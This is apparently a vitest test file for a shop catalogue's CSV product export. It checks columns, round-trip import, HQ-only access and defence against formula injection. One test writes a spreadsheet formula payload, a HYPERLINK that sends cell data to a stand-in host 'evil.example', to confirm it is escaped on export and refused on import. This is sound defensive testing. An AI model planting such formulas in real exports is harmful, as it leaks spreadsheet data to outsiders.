/**
 * The products export (ops_export_products; src/domain/catalogue-export.ts): every product in the
 * import's own columns, readable by a CSV parser as a spreadsheet would read it, imported again
 * with nothing changed; a text that would run as a formula is written as text (a leading
 * apostrophe) and refused, by name, if imported back; HQ only.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq, sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { createHarness, TEST_API_KEY, type Harness } from './harness';
import { products } from '../../src/server/xs-api/db/schema';
import { PRODUCTS_EXPORT_COLUMNS } from '../../src/domain/catalogue-export';
import { API_BASE, API_KEY_HEADER } from '../../src/lib/xs-api/contract';

let h: Harness;
let hq: { token: string };
let outlet: { token: string };

beforeAll(async () => {
  h = await createHarness();
  hq = await h.staff({ role: 'hq', login: 'hq.export' });
  outlet = await h.staff({ role: 'outlet', outlets: ['S001'] });
});
afterAll(async () => {
  await h.close();
});

const exportCsv = (token = hq.token) => h.call('ops/catalogue/export_products', { token });

/** Posts `csv` to ops_import_products as HQ; the report. */
async function importProducts(csv: string, dryRun: boolean) {
  const form = new FormData();
  form.append('file', new Blob([csv], { type: 'text/csv' }), 'products.csv');
  form.append('dry_run', dryRun ? '1' : '0');
  const res = await h.app.request(`${API_BASE}/ops/catalogue/import_products`, { method: 'POST', headers: { [API_KEY_HEADER]: TEST_API_KEY, authorization: `Bearer ${hq.token}` }, body: form });
  return { status: res.status, json: await res.json() };
}

describe('products export', () => {
  it('writes every product, hidden ones too, in the import columns, prices in ringgit, as a spreadsheet reads it', async () => {
    await h.db.update(products).set({ isActive: false }).where(eq(products.productCode, 'P0004'));
    const res = await exportCsv();
    expect(res.status, JSON.stringify(res.json)).toBe(200);
    const csv: string = res.json.csv;
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain('\r\n');
    const [header, ...rows] = parse(csv, { bom: true }) as string[][];
    expect(header).toEqual([...PRODUCTS_EXPORT_COLUMNS]);
    const [{ n }] = (await h.db.select({ n: sql<number>`count(*)::int` }).from(products)) as [{ n: number }];
    expect([rows.length, res.json.products]).toEqual([n, n]);
    const col = (name: string) => header!.indexOf(name);
    const codes = rows.map((r) => r[col('product_code')]!);
    expect(codes).toEqual([...codes].sort());
    const [p1] = await h.db.select().from(products).where(eq(products.productCode, 'P0001'));
    const row1 = rows.find((r) => r[col('product_code')] === 'P0001')!;
    expect(row1[col('product_name_en')]).toBe(p1!.productName.en);
    expect(row1[col('product_name_zh')]).toBe(p1!.productName.zh);
    expect(row1[col('product_name_ar')]).toBe(p1!.productName.ar);
    expect(row1[col('price')]).toBe((p1!.priceSen / 100).toFixed(2));
    expect(row1[col('final_price')]).toBe(p1!.finalPriceSen < p1!.priceSen ? (p1!.finalPriceSen / 100).toFixed(2) : '');
    expect(rows.find((r) => r[col('product_code')] === 'P0004')![col('visible')]).toBe('0');
  });

  it('imported again unchanged, changes nothing', async () => {
    const csv: string = (await exportCsv()).json.csv;
    const dry = await importProducts(csv, true);
    expect(dry.status, JSON.stringify(dry.json)).toBe(200);
    const applied = await importProducts(csv, false);
    expect(applied.status, JSON.stringify(applied.json)).toBe(200);
    const counts = applied.json.counts;
    expect(applied.json.applied).toBe(true);
    expect(counts).toMatchObject({ new: 0, changed: 0, hidden: 0, bad: 0 });
    expect(counts.unchanged).toBe((await exportCsv()).json.products);
  });

  it('writes a text that would run as a formula as text, and the import refuses it back by name', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    await h.db.update(products).set({ productName: sql`jsonb_set(${products.productName}, '{en}', to_jsonb(${formula}::text))` }).where(eq(products.productCode, 'P0002'));
    const csv: string = (await exportCsv()).json.csv;
    const [header, ...rows] = parse(csv, { bom: true }) as string[][];
    const row = rows.find((r) => r[header!.indexOf('product_code')] === 'P0002')!;
    expect(row[header!.indexOf('product_name_en')]).toBe(`'${formula}`);
    // No cell of the file starts like a formula.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const dry = await importProducts(csv, true);
    expect(dry.json.counts.bad).toBe(1);
    expect(dry.json.errors).toEqual([expect.objectContaining({ column: 'product_name_en', value: formula.slice(0, 60), code: 'catalogue_text_formula' })]);
    const [p2] = await h.db.select().from(products).where(eq(products.productCode, 'P0002'));
    expect(p2!.productName.en).toBe(formula);
  });

  it('is for HQ only: outlet staff get 403, no token 401', async () => {
    expect((await exportCsv(outlet.token)).status).toBe(403);
    expect((await h.call('ops/catalogue/export_products')).status).toBe(401);
  });
});
